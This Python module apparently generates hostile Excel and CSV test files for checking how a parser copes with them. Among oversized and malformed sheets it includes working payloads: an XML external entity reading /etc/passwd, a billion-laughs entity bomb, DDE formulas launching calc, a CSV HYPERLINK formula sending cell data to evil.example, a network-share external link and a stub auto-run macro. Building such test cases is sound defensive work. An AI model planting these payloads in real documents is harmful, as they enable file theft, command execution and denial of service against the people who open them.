"""Excel workbooks and CSV files whose contents are hostile."""

from __future__ import annotations

from openpyxl.utils import get_column_letter

from .archives import pack
from .case import Case, lazily
from .ooxml import HEAD, OFFICE, Parts, links, shared, xlsx

_TEXT = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'


def _data(rows: str) -> str:
    return f"<sheetData>{rows}</sheetData>"


def _formula(cell: str, code: str, value: str = "0") -> str:
    return f'<c r="{cell}"><f>{code}</f><v>{value}</v></c>'


def _loop() -> str:
    first = f'<row r="1">{_formula("A1", "B1+1")}{_formula("B1", "A1+1")}</row>'
    return _data(f'{first}<row r="2">{_formula("A2", "SUM(A:A)")}</row>')


def _wide() -> str:
    cells = "".join(f'<c r="{get_column_letter(i)}1"><v>{i}</v></c>' for i in range(1, 16_385))
    return _data(f'<row r="1">{cells}</row>')


def _one_cell_far_away() -> str:
    return _data('<row r="1048576"><c r="XFD1048576" t="s"><v>0</v></c></row>')


def _numbers() -> str:
    values = ("1e400", "-1e400", "NaN", "INF", "-693594", "2958466", "1e308", "", "0x10", "60")
    cells = "".join(f'<c r="A{i}" s="1"><v>{v}</v></c>' for i, v in enumerate(values, 1))
    return _data(f'<row r="1">{cells}</row>')


def _rows_out_of_order() -> str:
    rows = [f'<row r="{r}"><c r="{c}" t="s"><v>0</v></c></row>' for r, c in _PLACES]
    return _data("".join(rows))


_PLACES = (
    (5, "A5"),
    (5, "A5"),
    (2, "ZZZZZ2"),
    (0, "A0"),
    (-1, "A-1"),
    (2**40, f"A{2**40}"),
    (3, "4D"),
)


def _external() -> Parts:
    cell = _formula("A1", "[1]Prices!A1", "25")
    parts = xlsx(
        _data(f'<row r="1">{cell}</row>'),
        book='<externalReferences><externalReference r:id="rId3"/></externalReferences>',
    )
    parts["xl/_rels/workbook.xml.rels"] = links(
        ("worksheet", "worksheets/sheet1.xml"),
        ("sharedStrings", "sharedStrings.xml"),
        ("externalLink", "externalLinks/externalLink1.xml"),
    )
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'{HEAD}<externalLink xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>'
    )
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = links(
        ("externalLinkPath", "file://///evil.example/p.xlsx"), external=True
    )
    return parts


def _many_sheets(count: int) -> Parts:
    parts = xlsx(_data(_TEXT))
    sheets = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId1"/>' for i in range(1, count + 1))
    old = str(parts["xl/workbook.xml"])
    start, end = old.index("<sheets>") + 8, old.index("</sheets>")
    return parts | {"xl/workbook.xml": old[:start] + sheets + old[end:]}


def _hidden_sheet() -> Parts:
    parts = xlsx(_data(_TEXT))
    book = str(parts["xl/workbook.xml"])
    return parts | {
        "xl/workbook.xml": book.replace('sheetId="1"', 'sheetId="1" state="veryHidden"')
    }


def _entity() -> Parts:
    prolog = '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return xlsx(_data(_TEXT), strings=shared("<si><t>&x;</t></si>", prolog))


def _laughs() -> Parts:
    lines = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10 if i else "lol"}">' for i in range(10))
    prolog = f'<?xml version="1.0"?><!DOCTYPE s [{lines}]>'
    return xlsx(_data(_TEXT), strings=shared("<si><t>&a9;</t></si>", prolog))


def _shared_formulas() -> str:
    cells = '<c r="A1"><f t="shared" ref="A1:XFD1048576" si="0">A2+1</f><v>1</v></c>'
    return _data(f'<row r="1">{cells}</row><row r="2"><c r="A2"><f t="shared" si="7"/></c></row>')


def cases() -> list[Case]:
    """Every case of this kind."""
    return [*_sheets(), *_books(), *_tables()]


def _sheet(name: str, what: str, inner: str) -> Case:
    return Case(f"tables/{name}", what, lazily(lambda: pack(xlsx(inner))))


def _book(name: str, what: str, parts: Parts) -> Case:
    return Case(f"tables/{name}", what, lazily(lambda: pack(parts)))


def _sheets() -> list[Case]:
    whole = '<dimension ref="A1:XFD1048576"/>'
    command = "cmd|'/c calc'!A0"
    long = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"v" * 2_000_000}</t></is></c></row>'
    numbers = (("A1", "4000000000"), ("B1", "-1"), ("C1", "x"))
    lost = "".join(f'<c r="{place}" t="s"><v>{number}</v></c>' for place, number in numbers)
    tall = "".join(f'<row r="{i}"><c r="A{i}"><v>1</v></c></row>' for i in range(1, 60_001))
    return [
        _sheet(
            "huge-dimension.xlsx",
            "says it is full to the last cell, and has one cell",
            whole + _data(_TEXT),
        ),
        _sheet("far-cell.xlsx", "its only cell is the very last one", _one_cell_far_away()),
        _sheet(
            "lost-strings.xlsx",
            "texts number 4,000,000,000, -1 and x of a list of one",
            _data(f'<row r="1">{lost}</row>'),
        ),
        _sheet("formula-loop.xlsx", "formulas that need each other", _loop()),
        _sheet("wide-row.xlsx", "a row of 16,384 cells", _wide()),
        _sheet("tall.xlsx", "60,000 rows of one number", _data(tall)),
        _sheet(
            "merged.xlsx",
            "the whole sheet merged into one cell",
            _data(_TEXT) + '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        ),
        _sheet(
            "broken-merge.xlsx",
            "merged ranges that are no ranges",
            _data(_TEXT)
            + '<mergeCells><mergeCell ref="B2:A1"/><mergeCell ref="#REF!"/></mergeCells>',
        ),
        _sheet(
            "wrong-places.xlsx",
            "cells twice, at row 0 and at rows that cannot exist",
            _rows_out_of_order(),
        ),
        _sheet(
            "odd-numbers.xlsx",
            "infinite numbers, no numbers, and dates before 1900 and after 9999",
            _numbers(),
        ),
        _sheet("long-cell.xlsx", "a cell of 2,000,000 characters", _data(long)),
        _sheet(
            "command.xlsx",
            "a formula that starts a program",
            _data(f'<row r="1">{_formula("A1", command)}</row>'),
        ),
        _sheet(
            "shared-formula.xlsx",
            "a shared formula over the whole sheet, and one without a start",
            _shared_formulas(),
        ),
    ]


def _books() -> list[Case]:
    macro = xlsx(_data(_TEXT)) | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Sub Auto_Open()"}
    return [
        _book("outside-entity.xlsx", "a text that reads /etc/passwd", _entity()),
        _book("billion-laughs.xlsx", "a text that grows to ten thousand million words", _laughs()),
        _book("external-link.xlsx", "a number from a workbook on a network share", _external()),
        _book("many-sheets.xlsx", "3,000 sheets that are all the same part", _many_sheets(3000)),
        _book("hidden-sheet.xlsx", "its only sheet is hidden for good", _hidden_sheet()),
        _book("macro.xlsm", "a macro project", macro),
    ]


def _csv(name: str, what: str, data: bytes) -> Case:
    return Case(f"tables/{name}", what, lazily(lambda: data))


def _tables() -> list[Case]:
    formulas = b'Name,Result\n=HYPERLINK("http://evil.example?"&A1),x\n'
    formulas += b"+cmd|'/c calc'!A0,y\n@SUM(1),-2+3\n\t=1+1,z\n"
    return [
        _csv("formulas.csv", "cells that become formulas when the file is opened again", formulas),
        _csv(
            "open-quote.csv",
            "a quotation mark that never closes",
            b'Name,Due\n"Owen Tate,2026-11-24\n' + b"x,y\n" * 50_000,
        ),
        _csv(
            "long-field.csv",
            "a field longer than the csv module allows",
            b"Name\n" + b"v" * 300_000 + b"\n",
        ),
        _csv("wide.csv", "a line of 500,000 fields", b"x," * 500_000 + b"\n"),
        _csv(
            "uneven.csv",
            "rows of different lengths, three separators, NUL bytes",
            b"a,b,c\n1;2\n1\t2\t3\t4\n\0\0,\0\n\r\r\n,,,,,\n",
        ),
    ]
